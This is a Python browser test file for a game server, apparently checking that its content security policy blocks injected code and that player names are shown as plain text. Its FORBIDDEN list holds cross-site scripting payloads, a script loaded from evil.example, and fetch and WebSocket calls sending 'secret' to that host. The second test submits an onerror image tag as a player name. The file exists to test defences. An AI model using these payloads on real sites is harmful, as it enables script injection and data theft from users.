"""The content policy holds in a real browser: nothing runs, loads or leaves that is not ours."""

from __future__ import annotations

import json
from typing import Any

from rattery.server.connection.client import ServerClient
from tests.browser.device import TIMEOUT
from tests.server.serving import Process

FORBIDDEN = {
    "an inline script": "const s = document.createElement('script'); s.textContent = 'hacked = 1'; document.body.append(s)",
    "a handler in the markup": "document.body.insertAdjacentHTML('beforeend', '<img src=/none onerror=\"hacked = 1\">')",
    "text that is run": "setTimeout(() => { try { eval('hacked = 1') } catch {} })",  # at once, a tester may
    "a script from elsewhere": "const s = document.createElement('script'); s.src = 'https://evil.example/x.js';"
    " document.body.append(s)",
    "a page in a frame": "const f = document.createElement('iframe'); f.src = '/'; document.body.append(f)",
    "news to elsewhere": "fetch('https://evil.example/', {method: 'POST', body: 'secret'}).catch(() => {})",
    "a socket to elsewhere": "try { new WebSocket('wss://evil.example/') } catch {}",
    "a style in the markup": "document.body.insertAdjacentHTML('beforeend', '<p style=\"position:fixed\">x</p>')",
}
WATCH = "refused = []; document.addEventListener('securitypolicyviolation', e => refused.push(e.effectiveDirective))"


def test_what_is_not_ours_is_refused_by_the_browser(browser: Any, server: Process) -> None:
    page = browser.new_context().new_page()
    page.set_default_timeout(TIMEOUT)
    try:
        page.goto(server.address)
        page.wait_for_selector(".game-card-rat_trap")
        page.evaluate(f"() => {{ {WATCH} }}")
        for what, attempt in FORBIDDEN.items():
            page.evaluate(f"() => {{ refused = []; {attempt} }}")
            page.wait_for_function("() => refused.length > 0")  # the browser says that it did not do it
            assert page.evaluate("() => typeof hacked") == "undefined", what
    finally:
        page.context.close()


def test_what_people_write_is_text_and_nothing_else(browser: Any, server: Process) -> None:
    name = "<img src=x onerror=h=1>"
    seats = [{"kind": "me", "name": name}, {"kind": "bot", "level": "random"}]
    body = json.dumps({"game": "rat_trap(players=2)", "seats": seats}).encode()
    made = ServerClient(server.address)._ask("/api/tables", body)  # the browser has the event loop
    page = browser.new_context().new_page()
    page.set_default_timeout(TIMEOUT)
    try:
        page.goto(f"{server.address}/t/{made['table']}")
        page.get_by_text(name).first.wait_for()
        assert page.evaluate("() => document.querySelectorAll('[onerror]').length") == 0
        assert page.evaluate("() => typeof h") == "undefined"
    finally:
        page.context.close()
